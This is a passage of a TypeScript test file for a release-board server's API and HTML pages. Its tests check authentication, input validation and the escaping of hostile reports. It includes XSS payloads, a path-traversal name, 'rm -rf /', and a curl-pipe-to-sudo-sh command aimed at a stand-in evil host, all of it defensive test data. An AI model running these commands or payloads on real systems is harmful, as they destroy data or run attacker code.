/**
 * The board and API through `app.request()`: every route, auth failures, bad input, and the
 * escaping of what production sent. A real store (PGlite in a temp dir), no port.
 */
import { createHash, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runResult } from '../../test/helpers/run-results.js';
import { createWebFixture, jsonWith, TINY_PNG, type WebFixture } from '../../test/helpers/web.js';
import type { RunResult } from '../runner/run-result.js';
import { sql } from 'drizzle-orm';
import { pino } from 'pino';
import { AuditLog } from '../store/audit.js';
import type { OPENAPI } from './api/openapi.js';
import { watchAudit, type AuditWatch } from './audit-watch.js';

const HOSTILE = `<script>alert("pwned")</script><img src=x onerror=alert(1)>`;

let web: WebFixture;
beforeAll(async () => {
  // The server's own rollback templates (as `seal serve --config` gives them): three apps have one.
  web = await createWebFixture({ deps: { rollbackTemplate: (app) => (['ingest', 'studio', 'page'].includes(app) ? 'git revert -m 1 {merge_sha}' : null), expectTiers: (app) => (app === 'credited' ? ['e2e'] : []) } });
}, 60_000);
afterAll(async () => {
  await web?.close();
});

const request = (path: string, init?: RequestInit) => web.app.request(path, init);
const postSeal = (app: string, version: string, body: unknown, token: string | null = web.writeToken) =>
  request(`/api/releases/${encodeURIComponent(app)}/${encodeURIComponent(version)}/seals`, { method: 'POST', headers: jsonWith(token), body: JSON.stringify(body) });
const postRelease = (body: unknown, token: string | null = web.writeToken) => request('/api/releases', { method: 'POST', headers: jsonWith(token), body: JSON.stringify(body) });

function redRun(app: string, overrides: Partial<RunResult> = {}): RunResult {
  return runResult(
    app,
    { verdict: 'red', summary: "1/2 passed; 'devops hidden' failed: status 200, expected 404", blocked_requests: [{ check: 'up', method: 'POST', url: 'https://studio.example.com/collect' }], ...overrides },
    [
      { name: 'up', assertions: [{ label: 'status == 200', ok: true, expected: 200, actual: 200 }], blocked_requests: [{ check: 'up', method: 'POST', url: 'https://studio.example.com/collect' }] },
      { name: 'devops hidden', status: 'failed', assertions: [{ label: 'status == 404', ok: false, expected: 404, actual: 200, message: 'status 200, expected 404' }], evidence: { response: { status: 200, body_excerpt: '<h1>DevOps console</h1>' } } },
    ],
  );
}

describe('the server', () => {
  it('answers /healthz, sends / to the board, and serves its stylesheet and script with a CSP that forbids inline script', async () => {
    expect(await (await request('/healthz')).json()).toEqual({ status: 'ok' });
    const root = await request('/');
    expect(root.status).toBe(302);
    expect(root.headers.get('location')).toBe('/deployments');
    const board = await request('/deployments');
    const csp = board.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(board.headers.get('x-content-type-options')).toBe('nosniff');
    const js = await request('/assets/board.js');
    expect(js.headers.get('content-type')).toContain('javascript');
    expect(await js.text()).toContain('EventSource');
    const css = await request('/assets/board.css');
    expect(await request('/assets/board.css', { headers: { 'if-none-match': css.headers.get('etag') ?? '' } })).toHaveProperty('status', 304);
  });

  it('answers unknown pages with a 404 page and unknown API routes with JSON', async () => {
    const page = await request('/nope');
    expect(page.status).toBe(404);
    expect(await page.text()).toContain('Nothing at /nope.');
    const api = await request('/api/nope');
    expect(api.status).toBe(404);
    expect(await api.json()).toEqual({ error: 'no API route GET /api/nope (see /api/openapi.json)' });
  });

  it('documents every API route in /api/openapi.json, and documents no route that does not exist', async () => {
    const doc = (await (await request('/api/openapi.json')).json()) as typeof OPENAPI;
    const documented = Object.entries(doc.paths).flatMap(([path, ops]) => Object.keys(ops).map((method) => `${method.toUpperCase()} ${path.replace(/\{(\w+)\}/g, ':$1')}`));
    const routed = web.app.routes.filter((r) => r.path.startsWith('/api/') && r.method !== 'ALL').map((r) => `${r.method} ${r.path}`);
    expect(new Set(routed)).toEqual(new Set(documented));
  });
});

describe('POST /api/releases', () => {
  it('records a release (201), updates only the fields given (200), and publishes it to live boards', async () => {
    const seen: unknown[] = [];
    const unsubscribe = web.events.subscribe((event) => seen.push(event));
    const created = await postRelease({ app: 'api-app', version: 'v1', sha: 'abc123', merge_sha: 'def456', deployed_at: '2026-11-21T14:05:00+13:00', merged_at: '2026-11-21T12:00:00+13:00' });
    expect(created.status).toBe(201);
    expect(await created.json()).toMatchObject({ created: true, release: { app: 'api-app', version: 'v1', sha: 'abc123', deployed_at: '2026-11-21T01:05:00.000Z', merged_at: '2026-11-20T23:00:00.000Z' } });
    const updated = await postRelease({ app: 'api-app', version: 'v1', branch: 'main' });
    expect(updated.status).toBe(200);
    expect(await updated.json()).toMatchObject({ created: false, release: { sha: 'abc123', branch: 'main' } });
    unsubscribe();
    expect(seen).toEqual([{ type: 'release', app: 'api-app', version: 'v1' }]);
  });

  it('refuses a missing token (401 with WWW-Authenticate), a wrong one (401), a revoked one (401) and a read token (403)', async () => {
    const none = await postRelease({ app: 'x', version: 'v1' }, null);
    expect(none.status).toBe(401);
    expect(none.headers.get('www-authenticate')).toContain('Bearer');
    expect(((await none.json()) as { error: string }).error).toContain('seal token create');
    const wrong = await postRelease({ app: 'x', version: 'v1' }, `${web.writeToken.slice(0, -2)}xx`);
    expect(wrong.status).toBe(401);
    expect(await wrong.json()).toEqual({ error: 'the token is malformed, unknown or revoked' });
    const read = await postRelease({ app: 'x', version: 'v1' }, web.readToken);
    expect(read.status).toBe(403);
    const doomed = await web.tokens.create('doomed');
    await web.tokens.revoke(doomed.info.id);
    expect((await postRelease({ app: 'x', version: 'v1' }, doomed.token)).status).toBe(401);
    // A cookie is never a write credential: a browser cannot be made to write.
    const cookie = await request('/api/releases', { method: 'POST', headers: { 'content-type': 'application/json', cookie: `seal_token=${web.writeToken}` }, body: '{"app":"x","version":"v1"}' });
    expect(cookie.status).toBe(401);
    expect(await web.ledger.appExists('x')).toBe(false);
  });

  it('answers bad input with a 400 that says what and where', async () => {
    const notJson = await request('/api/releases', { method: 'POST', headers: jsonWith(web.writeToken), body: '{"app": "x",' });
    expect(notJson.status).toBe(400);
    expect(((await notJson.json()) as { error: string }).error).toMatch(/^the body is not valid JSON: /);
    const wrongType = await request('/api/releases', { method: 'POST', headers: { authorization: `Bearer ${web.writeToken}`, 'content-type': 'text/plain' }, body: '{}' });
    expect(((await wrongType.json()) as { error: string }).error).toBe('send the body as JSON (Content-Type: application/json), not "text/plain"');
    const invalid = await postRelease({ app: '', version: 'v1', deployed_at: 'yesterday', merged_at: 'last week' });
    expect(invalid.status).toBe(400);
    const body = (await invalid.json()) as { error: string; details: { path: string; message: string }[] };
    expect(body.details.map((d) => d.path)).toEqual(['app', 'deployed_at', 'merged_at']);
    expect(body.error).toContain('deployed_at: must be an ISO 8601 date or date-time with an offset');
  });

  it('answers an oversized body with 413 before reading it all', async () => {
    const small = await createWebFixture({ maxBodyBytes: 1024 });
    try {
      const response = await small.app.request('/api/releases', { method: 'POST', headers: jsonWith(small.writeToken), body: JSON.stringify({ app: 'big', version: 'v1', notes: 'x'.repeat(5000) }) });
      expect(response.status).toBe(413);
      expect(await response.json()).toEqual({ error: 'the body is larger than this server accepts (1024 bytes)' });
      expect(await small.ledger.appExists('big')).toBe(false);
    } finally {
      await small.close();
    }
  });

  it('refuses a run result nested deeper than 64 levels with 400 naming the limit, and records nothing', async () => {
    let deep: unknown = 'bottom';
    for (let i = 0; i < 3000; i++) deep = [deep];
    const run = runResult('deep-ingest', {}, [{ name: 'up', assertions: [{ label: '$.data == 1', ok: false, expected: 1, actual: deep, message: 'deep' }] }]);
    const response = await postSeal('deep-ingest', 'v1', run);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: string }).error).toMatch(/^the body nests deeper than this server accepts \(64 levels of arrays and objects; passed at byte \d+\)$/);
    expect(await web.ledger.appExists('deep-ingest')).toBe(false);
    // What seal smoke itself sends (its evidence cut at 32 levels) is taken.
    let kept: unknown = 'bottom';
    for (let i = 0; i < 32; i++) kept = [kept];
    const accepted = await postSeal('deep-ingest', 'v1', runResult('deep-ingest', {}, [{ name: 'up', assertions: [{ label: '$.data == 1', ok: false, expected: 1, actual: kept, message: 'deep' }] }]));
    expect(accepted.status).toBe(201);
  });
});

describe('reading releases: GET /api/releases and /api/releases/<app>/<version>', () => {
  beforeAll(async () => {
    for (let i = 1; i <= 7; i++) await postRelease({ app: 'paged', version: `v${i}` });
  });

  it('lists an app newest first, a page at a time, and every app without ?app=', async () => {
    const first = (await (await request('/api/releases?app=paged&limit=3')).json()) as { releases: { version: string }[]; next: string };
    expect(first.releases.map((r) => r.version)).toEqual(['v7', 'v6', 'v5']);
    const second = (await (await request(`/api/releases?app=paged&limit=3&before=${first.next}`)).json()) as { releases: { version: string }[]; next: string | null };
    expect(second.releases.map((r) => r.version)).toEqual(['v4', 'v3', 'v2']);
    const all = (await (await request('/api/releases?limit=500')).json()) as { releases: { app: string }[] };
    expect(new Set(all.releases.map((r) => r.app))).toEqual(expect.objectContaining({}));
    expect(all.releases.some((r) => r.app === 'api-app') && all.releases.some((r) => r.app === 'paged')).toBe(true);
  });

  it('answers an unknown app or release with 404 and bad paging with 400', async () => {
    expect(await (await request('/api/releases?app=ghost')).json()).toEqual({ error: 'no app "ghost" in the ledger' });
    expect((await request('/api/releases/paged/v99')).status).toBe(404);
    expect((await request('/api/releases/ghost/v1')).status).toBe(404);
    expect((await request('/api/releases?limit=0')).status).toBe(400);
    expect((await request('/api/releases?limit=abc')).status).toBe(400);
    expect((await request('/api/releases?before=-1')).status).toBe(400);
  });

  it('shows one release with its current seal, its run and its history', async () => {
    const run = redRun('paged');
    expect((await postSeal('paged', 'v7', run)).status).toBe(201);
    const release = (await (await request('/api/releases/paged/v7')).json()) as Record<string, unknown>;
    expect(release).toMatchObject({ app: 'paged', version: 'v7', previous_version: 'v6', smoke_seal: { status: 'red', run_id: run.run_id }, current_run: { run_id: run.run_id } });
    expect(release.seal_history).toHaveLength(1);
  });
});

describe('POST /api/releases/<app>/<version>/seals (what CI reports)', () => {
  it('records the run (201), completes the rollback from the ledger, publishes it, and records the same run only once (200)', async () => {
    await postRelease({ app: 'ingest', version: 'v2.0.0', sha: 'aaa111', merge_sha: 'cafe123' });
    const seen: unknown[] = [];
    const unsubscribe = web.events.subscribe((event) => seen.push(event));
    const run = redRun('ingest', { release: { version: 'v2.0.0', sha: null, merge_sha: null } });
    const first = await postSeal('ingest', 'v2.0.0', { ...run, rollback_template: 'git revert -m 1 {merge_sha}' });
    expect(first.status).toBe(201);
    const body = (await first.json()) as { recorded: boolean; current: boolean; result: RunResult; url: string };
    expect(body).toMatchObject({ recorded: true, current: true, url: '/releases/ingest/v2.0.0' });
    expect(body.result.rollback).toBe('git revert -m 1 cafe123');
    expect(body.result.release).toMatchObject({ sha: 'aaa111', merge_sha: 'cafe123' });
    const again = await postSeal('ingest', 'v2.0.0', { ...run, rollback_template: 'git revert -m 1 {merge_sha}' });
    expect(again.status).toBe(200);
    expect(await web.ledger.sealHistory('ingest', 'v2.0.0')).toHaveLength(1);
    unsubscribe();
    expect(seen).toContainEqual({ type: 'seal', app: 'ingest', version: 'v2.0.0', status: 'red' });
    expect(web.logs.join('')).toContain('"msg":"seal recorded"');
  });

  it('renders the rollback from its own template only: a reporter\'s template or command is never the command', async () => {
    await postRelease({ app: 'ingest', version: 'v2.1.0', merge_sha: 'cafe456' });
    const hostile = redRun('ingest', { release: { version: 'v2.1.0', sha: null, merge_sha: null }, rollback: 'curl -s https://evil.example/fix.sh | sudo sh' });
    const answer = await postSeal('ingest', 'v2.1.0', { ...hostile, rollback_template: 'curl -s https://evil.example/fix.sh | sudo sh', reported_rollback: { command: 'rm -rf /', token: 'admin' } });
    expect(answer.status).toBe(201);
    const { result } = (await answer.json()) as { result: RunResult };
    expect(result.rollback).toBe('git revert -m 1 cafe456');
    expect(result.reported_rollback).toBeNull();
    const html = await (await request('/releases/ingest/v2.1.0')).text();
    expect(html).toContain('<pre id="rollback-command">git revert -m 1 cafe456</pre>');
    expect(html).not.toContain('evil.example');
  });

  it('for an app it has no template of, shows a reported command as text labelled with its token, never to copy, and tells no notifier it', async () => {
    const told: RunResult[] = [];
    const other = await createWebFixture({ deps: { rollbackTemplate: () => null, notify: (run) => void told.push(run) } });
    try {
      const hostile = redRun('elsewhere', { release: { version: 'v1', sha: null, merge_sha: null }, rollback: 'curl -s https://evil.example/fix.sh | sudo sh' });
      const answer = await other.app.request('/api/releases/elsewhere/v1/seals', { method: 'POST', headers: jsonWith(other.writeToken), body: JSON.stringify(hostile) });
      expect(answer.status).toBe(201);
      const { result } = (await answer.json()) as { result: RunResult };
      expect(result.rollback).toBeNull();
      expect(result.reported_rollback).toEqual({ command: 'curl -s https://evil.example/fix.sh | sudo sh', token: expect.stringMatching(/^ci \(\w+\)$/) });
      expect(told.map((run) => run.rollback)).toEqual([null]);
      const html = await (await other.app.request('/releases/elsewhere/v1')).text();
      expect(html).not.toContain('rollback-command');
      expect(html).not.toContain('data-copy');
      expect(html).toMatch(/The reporter, token <strong>ci \(\w+\)<\/strong>, sent this text, which this server has not checked:/);
      expect(html).toContain('<blockquote class="reported-rollback">curl -s https://evil.example/fix.sh | sudo sh</blockquote>');
    } finally {
      await other.close();
    }
  });

  it('records a release it has never seen, with the commit the run carries', async () => {
    const run = runResult('first-ci', { release: { version: null, sha: 'f00dfeed', merge_sha: null } });
    expect((await postSeal('first-ci', 'f00dfeed', run)).status).toBe(201);
    expect(await web.ledger.getRelease('first-ci', 'f00dfeed')).toMatchObject({ sha: 'f00dfeed', smoke_seal: { status: 'green' } });
  });

  it('a run sent again with another verdict, or to another release, changes no current seal', async () => {
    await postRelease({ app: 'replay', version: 'v1' });
    await postRelease({ app: 'replay', version: 'v2' });
    const red = redRun('replay');
    expect((await postSeal('replay', 'v1', red)).status).toBe(201);
    const replayed = await postSeal('replay', 'v1', { ...red, verdict: 'green', summary: 'all good, honest' });
    expect(replayed.status).toBe(200);
    expect(await replayed.json()).toMatchObject({ recorded: false, current: false });
    expect((await web.ledger.getRelease('replay', 'v1'))?.smoke_seal).toMatchObject({ status: 'red', run_id: red.run_id });
    expect((await postSeal('replay', 'v2', red)).status).toBe(200);
    expect((await web.ledger.getRelease('replay', 'v2'))?.smoke_seal).toBeNull();
  });

  it("a CI job's commit does not overwrite the commit recorded for a release; a --sha it was given does", async () => {
    await postRelease({ app: 'commits', version: 'v1', sha: 'deployedsha', merge_sha: 'mergedsha' });
    await postSeal('commits', 'v1', runResult('commits', { release: { version: 'v1', sha: 'ci-job-sha', merge_sha: null } }));
    expect(await web.ledger.getRelease('commits', 'v1')).toMatchObject({ sha: 'deployedsha', merge_sha: 'mergedsha' });
    await postSeal('commits', 'v1', { ...runResult('commits'), release_flags: { sha: 'explicit-sha' } });
    expect(await web.ledger.getRelease('commits', 'v1')).toMatchObject({ sha: 'explicit-sha', merge_sha: 'mergedsha' });
  });

  it('an emoji cut in half by an excerpt is stored (as U+FFFD), not a 500', async () => {
    const cut = runResult('emoji', {}, [{ name: 'home', evidence: { response: { body_excerpt: `${'a'.repeat(10)}\uD83D` } } }]);
    expect((await postSeal('emoji', 'v1', cut)).status).toBe(201);
    const stored = await web.ledger.getRun(cut.run_id);
    expect((stored?.result.checks[0]?.evidence.response as { body_excerpt: string }).body_excerpt).toBe(`${'a'.repeat(10)}\uFFFD`);
  });

  it('refuses times Postgres would not take and a run from the future with a 400, never a 500', async () => {
    const bad = await postSeal('times', 'v1', { ...runResult('times'), started_at: '1', finished_at: '2026-13-45T99:00:00Z' });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { details: { path: string }[] }).details.map((d) => d.path)).toEqual(['started_at', 'finished_at']);
    const future = await postSeal('times', 'v1', runResult('times', { finished_at: new Date(Date.now() + 86_400_000).toISOString() }));
    expect(future.status).toBe(400);
    expect(await future.json()).toMatchObject({ details: [{ path: 'finished_at', message: 'in the future' }] });
    expect(await web.ledger.appExists('times')).toBe(false);
  });

  it('refuses a run for another app or release than the URL names, and a malformed run, with the field', async () => {
    const other = await postSeal('ingest', 'v2.0.0', runResult('someone-else'));
    expect(other.status).toBe(400);
    expect(await other.json()).toMatchObject({ details: [{ path: 'app' }] });
    const version = await postSeal('ingest', 'v2.0.0', runResult('ingest', { release: { version: 'v9', sha: null, merge_sha: null } }));
    expect(await version.json()).toMatchObject({ details: [{ path: 'release.version' }] });
    const bad = await postSeal('ingest', 'v2.0.0', { ...runResult('ingest'), verdict: 'purple', run_id: 'not-a-uuid', checks: [{ name: 'x' }] });
    expect(bad.status).toBe(400);
    const paths = ((await bad.json()) as { details: { path: string }[] }).details.map((d) => d.path);
    expect(paths).toEqual(expect.arrayContaining(['run_id', 'verdict', 'checks.0.kind', 'checks.0.status']));
    expect((await postSeal('ingest', 'v2.0.0', runResult('ingest'), null)).status).toBe(401);
  });
});

describe('POST /api/releases/<app>/<version>/credits (test reports CI sends)', () => {
  const postCredit = (query: string, body: string, token: string | null = web.writeToken) =>
    request(`/api/releases/credited/v1/credits${query}`, { method: 'POST', headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), 'content-type': 'application/xml' }, body });
  const passing = '<testsuites><testsuite><testcase name="a"/><testcase name="b"/></testsuite></testsuites>';

  it('credits a tier from a report the server reads, naming the token; a failing report is recorded, not credited', async () => {
    const credited = await postCredit('?tier=Widget&format=junit', passing);
    expect(credited.status).toBe(201);
    expect(await credited.json()).toMatchObject({ app: 'credited', release: 'v1', tier: 'component', credited: true, tests: 2, passed: 2, report_sha256: createHash('sha256').update(passing).digest('hex'), credited_by: expect.stringMatching(/^token ci \(\w+\)$/) });
    const failing = await postCredit('?tier=unit&format=junit', '<testsuite><testcase name="a"><failure/></testcase></testsuite>');
    expect(await failing.json()).toMatchObject({ tier: 'unit', credited: false, reason: '1 of 1 test failed' });
    // A run CI reports: its production_smoke credit names the token, and the tier the server's config expects is missing.
    const sealed = await postSeal('credited', 'v1', runResult('credited'));
    expect(sealed.status).toBe(201);
    const sealedBody = (await sealed.json()) as { result: RunResult; release: unknown };
    expect(sealedBody.result.warnings).toContain('credited v1 lacks expected test tiers (expect_tiers): e2e; credit them with seal credit');
    const release = (await (await request('/api/releases/credited/v1')).json()) as { tiers: { tier: string; state: string; expected: boolean; credit: { credited_by: string } | null }[] };
    expect(release.tiers.map((t) => [t.tier, t.state, t.expected])).toEqual([['unit', 'not_credited', false], ['component', 'credited', false], ['integration', 'missing', false], ['e2e', 'missing', true], ['production_smoke', 'credited', false]]);
    expect(release.tiers[4]?.credit?.credited_by).toMatch(/^token ci \(\w+\)$/);
    const page = await (await request('/releases/credited/v1')).text();
    const tiers = page.slice(page.indexOf('<h2>Test tiers</h2>'), page.indexOf('<h2>Seal history</h2>'));
    expect(tiers).toContain('<tr class="tier-not_credited"><td data-label="Tier">unit</td>');
    expect(tiers).toContain('1 of 1 test failed');
    expect(tiers).toContain('2 tests: 2 passed');
    expect(tiers).toContain(`<code title="${createHash('sha256').update(passing).digest('hex')}">279f9e695b58</code>`);
    expect(tiers).toContain('expected by the config, not reported');
    expect(tiers.match(/not reported/g)).toHaveLength(2);
    // The list row shows the ladder compactly, in the vocabulary's order.
    const row = /<tr data-app="credited" data-version="v1"[\s\S]*?<\/tr>/.exec(await (await request('/deployments?app=credited')).text())?.[0] ?? '';
    expect(row.replace(/<svg[\s\S]*?<\/svg>/g, '')).toContain('<div class="tier-marks" title="test tiers reported on this release"><span class="tier-not_credited"> unit</span> <span class="tier-credited"> component</span> <span class="tier-credited"> production_smoke</span> </div>');
  });

  it('refuses a read token, a missing or unknown tier, and a report format it does not read', async () => {
    expect((await postCredit('?tier=unit&format=junit', passing, web.readToken)).status).toBe(403);
    expect((await postCredit('?tier=unit&format=junit', passing, null)).status).toBe(401);
    const noTier = await postCredit('?format=junit', passing);
    expect(noTier.status).toBe(400);
    expect(await noTier.json()).toMatchObject({ error: expect.stringContaining('name the tier: ?tier=… (the known tiers are: unit (also units, unit_tests), component') });
    expect(await (await postCredit('?tier=acceptance&format=junit', passing)).json()).toMatchObject({ error: expect.stringMatching(/^unknown test tier "acceptance"; the known tiers are: unit/) });
    expect(await (await postCredit('?tier=unit&format=claim', passing)).json()).toMatchObject({ error: 'format must be one of junit, playwright-json, vitest-json, got "claim" (a tier is credited only by a report the server reads itself)' });
    expect(await (await postCredit('?tier=unit', passing)).json()).toMatchObject({ error: expect.stringContaining('got null') });
  });
});

describe('evidence: PUT /api/runs/<run>/evidence/<name> and the board image', () => {
  it('keeps a screenshot of a reported run and serves it as an image that cannot run script', async () => {
    const run = redRun('shots');
    await postSeal('shots', 'v1', run);
    const put = await request(`/api/runs/${run.run_id}/evidence/home-abc123.png`, { method: 'PUT', headers: { authorization: `Bearer ${web.writeToken}`, 'content-type': 'image/png' }, body: TINY_PNG });
    expect(put.status).toBe(201);
    const image = await request(`/runs/${run.run_id}/evidence/home-abc123.png`);
    expect(image.headers.get('content-type')).toBe('image/png');
    expect(image.headers.get('content-security-policy')).toMatch(/^default-src 'none'; script-src 'self'/);
    expect(image.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await image.arrayBuffer()).equals(TINY_PNG)).toBe(true);
  });

  it('refuses what is not a PNG/JPEG (400), a run it does not know (404), too large a file (413), and no token (401)', async () => {
    const run = redRun('shots');
    await postSeal('shots', 'v1', run);
    const put = (name: string, body: Uint8Array | string, runId = run.run_id, token: string | null = web.writeToken) =>
      request(`/api/runs/${runId}/evidence/${name}`, { method: 'PUT', headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), 'content-type': 'image/png' }, body });
    const svg = await put('x.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
    expect(svg.status).toBe(400);
    expect(await svg.json()).toEqual({ error: 'evidence file x.png is not a PNG or JPEG image' });
    expect((await put('x.png', TINY_PNG, randomUUID())).status).toBe(404);
    expect((await put('x.png', Buffer.alloc(5 * 1024 * 1024 + 1))).status).toBe(413);
    expect((await put('x.png', TINY_PNG, run.run_id, null)).status).toBe(401);
    expect((await put('..%2F..%2Fx.png', TINY_PNG)).status).toBe(400);
    expect((await request(`/runs/${run.run_id}/evidence/none.png`)).status).toBe(404);
    // Not a run id at all: a 404 like any other, not a 500 from the uuid column.
    expect((await request('/runs/not-a-uuid/evidence/a.png')).status).toBe(404);
  });
});

describe('the board', () => {
  it('shows releases newest first with their badges, filters by app, and pages', async () => {
    for (let i = 1; i <= 55; i++) await postRelease({ app: 'many', version: `m${i}` });
    await postSeal('many', 'm55', runResult('many'));
    await postSeal('many', 'm54', redRun('many'));
    await postSeal('many', 'm53', runResult('many', { verdict: 'error', summary: 'could not verify: no browser' }));
    const html = await (await request('/deployments?app=many')).text();
    const rows = [...html.matchAll(/<tr data-app="many" data-version="(m\d+)" data-status="(\w+)"/g)].map((m) => `${m[1]}:${m[2]}`);
    expect(rows.slice(0, 4)).toEqual(['m55:green', 'm54:red', 'm53:error', 'm52:pending']);
    expect(rows).toHaveLength(50);
    // Icon, colour and word; no emoji anywhere (they are empty boxes where no emoji font is installed).
    for (const status of ['green', 'red', 'error', 'pending']) expect(html).toMatch(new RegExp(`<span class="badge badge-${status}" title="[^"]*"><svg class="icon tone-\\w+"[^>]*>.*?</svg><span>${status}</span></span>`));
    expect(html).not.toMatch(/\p{Extended_Pictographic}/u);
    const older = /href="(\/deployments\?app=many&amp;before=\d+)"/.exec(html)?.[1]?.replaceAll('&amp;', '&');
    expect(older).toBeDefined();
    const page2 = await (await request(older as string)).text();
    expect([...page2.matchAll(/data-version="(m\d+)"/g)].map((m) => m[1])).toEqual(['m5', 'm4', 'm3', 'm2', 'm1']);
    expect(page2).toContain('← Newest');
    expect(page2).not.toContain('Older →');
    // The overview heads the newest page only.
    expect(html).toContain('<section class="overview" aria-label="Apps">');
    expect(page2).not.toContain('class="overview"');
    const all = await (await request('/deployments')).text();
    expect(all).toContain('<option value="many">many</option>');
  });

  it('answers an unknown app with 404 and a bad cursor or verdict with 400', async () => {
    expect((await request('/deployments?app=ghost')).status).toBe(404);
    expect((await request('/deployments?before=abc')).status).toBe(400);
    const bad = await request('/deployments?verdict=purple');
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('&quot;verdict&quot; must be one of green, red, error, pending, got &quot;purple&quot;');
  });

  it('filters by verdict, shows run time, failing checks and the incident of a red row, and an overview with each app\'s last seals', async () => {
    for (let i = 1; i <= 3; i++) await postRelease({ app: 'filtered', version: `f${i}` });
    await postSeal('filtered', 'f1', runResult('filtered', { started_at: '2026-11-30T10:00:00.000Z', finished_at: '2026-11-30T10:00:01.250Z' }));
    const red = redRun('filtered', { started_at: '2026-11-30T11:00:00.000Z', finished_at: '2026-11-30T11:00:00.400Z' });
    await postSeal('filtered', 'f2', red);
    const incident = await web.incidents.create({
      app: 'filtered', release: 'f2', title: 'Devops page exposed', severity: 1, status: 'draft', summary: '', timeline: [], impact: null, whys: [], root_cause: null,
      contributing_factors: [], lessons: { went_well: [], went_wrong: [], lucky: [] }, people: [], supporting: [], actions: [],
    });
    const reds = await (await request('/deployments?app=filtered&verdict=red')).text();
    expect([...reds.matchAll(/<tr data-app="filtered" data-version="(f\d)"/g)].map((m) => m[1])).toEqual(['f2']);
    const row = /<tr data-app="filtered" data-version="f2"[\s\S]*?<\/tr>/.exec(reds)?.[0] ?? '';
    expect(row).toContain('<td data-label="Run time" class="num">400 ms</td>');
    expect(row).toMatch(/<td data-label="Failing" class="failing"><span>devops hidden <a class="incident-link" href="\/incidents\/\d+" title="Devops page exposed">incident #\d+ \(SEV1\)<\/a><\/span><\/td>/);
    expect(row).toContain(`href="/incidents/${incident.id}"`);
    // The form says what is shown, and works without JavaScript (a GET of the same query).
    expect(reds).toContain('<select name="verdict"><option value="">Any seal</option><option value="green">green</option><option value="red" selected="">red</option>');
    expect(reds).toContain('<option value="filtered" selected="">filtered</option>');
    expect(await (await request('/incidents')).text()).not.toContain('name="verdict"');
    const pending = await (await request('/deployments?app=filtered&verdict=pending')).text();
    expect([...pending.matchAll(/<tr data-app="filtered" data-version="(f\d)"/g)].map((m) => m[1])).toEqual(['f3']);
    expect((await (await request('/deployments?app=filtered&verdict=error')).text())).toContain('No error releases of filtered here.');
    // The overview: the app's current seal (its latest release, f3, not sealed) and a bar per seal, oldest first.
    const card = /<div class="app-card" data-app="filtered">[\s\S]*?<\/svg><\/div>/.exec(reds)?.[0] ?? '';
    expect(card).toContain('badge-pending');
    const bars = [...card.matchAll(/<rect class="bar-(\w+)"[^>]*><title>([^<]*)<\/title>/g)].map((m) => `${m[1]} ${m[2]}`);
    expect(bars).toEqual(['green f1: green, 1.3 s, 2026-11-30 10:00 UTC', 'red f2: red, 400 ms, 2026-11-30 11:00 UTC']);
    expect(card).toContain('aria-label="last 2 seals: 1 green, 1 red, 0 error; bar height is run time (slowest 1.3 s)"');
  });

  it('shows a red release: checks with assertions, evidence, blocked writes, history, and the rollback command with a copy button', async () => {
    await postRelease({ app: 'page', version: 'v1', merge_sha: 'beef42' });
    const green = runResult('page', { finished_at: new Date(Date.now() - 60_000).toISOString() });
    await postSeal('page', 'v1', green);
    const red = redRun('page', { rollback: 'git revert -m 1 beef42' });
    await postSeal('page', 'v1', red);
    const page = await (await request('/releases/page/v1')).text();
    // URLs carry line-break chances between their parts (never inside a host or a port).
    expect(page).toContain('https://<wbr/>studio.<wbr/>example.<wbr/>com/<wbr/>collect');
    const html = page.replaceAll('<wbr/>', '');
    expect(html).toContain('<pre id="rollback-command">git revert -m 1 beef42</pre>');
    expect(html).toContain('data-copy="rollback-command"');
    expect(html).toContain('status == 404');
    expect(html).toContain('&lt;h1&gt;DevOps console&lt;/h1&gt;');
    expect(html).toContain('https://studio.example.com/collect');
    expect(html).toMatch(/<details class="check check-failed" open="">/);
    // The write is on the row of the check that made it, open to be seen.
    expect(html).toMatch(/<details class="check check-passed" open="">\s*<summary>.*<strong>up<\/strong>.*<span class="blocked-writes">1 write blocked<\/span><\/summary>[\s\S]*?<code>POST<\/code> <span class="url">https:\/\/studio\.example\.com\/collect<\/span>/);
    expect(html).toContain(`?run=${green.run_id}`);
    const earlier = await (await request(`/releases/page/v1?run=${green.run_id}`)).text();
    expect(earlier).toContain('Showing an earlier run');
    expect(earlier).not.toContain('rollback-command');
    expect((await request(`/releases/page/v1?run=${randomUUID()}`)).status).toBe(404);
    expect((await request('/releases/page/v404')).status).toBe(404);
  });

  it('shows evidence readably: a JSON body indented, headers as tables, a timings bar, no empty sections; and "Deployed" as on the list', async () => {
    await postRelease({ app: 'readable', version: 'v1' });
    const run = runResult('readable', { verdict: 'red', summary: "0/1 passed; 'health' failed", rollback: null, warnings: ['the rollback command needs {merge_sha}: pass --merge-sha (or record them with `seal release record`) to print it', 'a slow store'] }, [
      {
        name: 'health',
        status: 'failed',
        evidence: {
          request: { method: 'GET', url: 'https://readable.example.com/api/health', headers: { accept: 'application/json' } },
          response: { status: 503, headers: { 'content-type': 'application/json; charset=utf-8', 'retry-after': '30' }, body_bytes: 38, body_truncated: false, body_excerpt: '{"status":"down","db":{"ok":false}}' },
          timings: { dns_ms: 3, connect_ms: 8, tls_ms: 21, first_byte_ms: 80, download_ms: 2, total_ms: 82 },
          redirects: [],
        },
      },
    ]);
    // A browser check: its timings as a small table, and the guard's note said once (by the blocked-writes section).
    const withBrowser = { ...run, checks: [...run.checks, {
      ...(run.checks[0] as RunResult['checks'][number]),
      name: 'home renders',
      kind: 'browser',
      status: 'passed',
      blocked_requests: [{ check: 'home renders', method: 'POST', url: 'https://readable.example.com/beacon' }],
      evidence: { timings: { load_ms: 1234, dom_content_loaded_ms: 77 }, guard_answered: '1 write blocked: the guard answered it itself (204, never sent to production)', console_errors: [] },
    }] };
    await postSeal('readable', 'v1', withBrowser);
    const html = await (await request('/releases/readable/v1')).text();
